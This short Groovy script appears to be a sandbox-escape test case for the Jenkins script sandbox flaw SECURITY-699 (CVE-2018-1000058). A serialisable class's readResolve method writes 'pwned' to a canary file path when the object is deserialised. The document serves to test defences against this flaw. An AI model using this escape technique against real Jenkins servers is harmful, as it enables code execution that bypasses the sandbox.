// class: script-escape
// source: Jenkins SECURITY-699 / CVE-2018-1000058 (readResolve)
// expect: write
class Payload implements Serializable {
    Object readResolve() { new File('@CANARY_WRITE@').text = 'pwned'; this }
}
def bytes = new ByteArrayOutputStream()
new ObjectOutputStream(bytes).withStream { it.writeObject(new Payload()) }
new ObjectInputStream(new ByteArrayInputStream(bytes.toByteArray())).readObject()
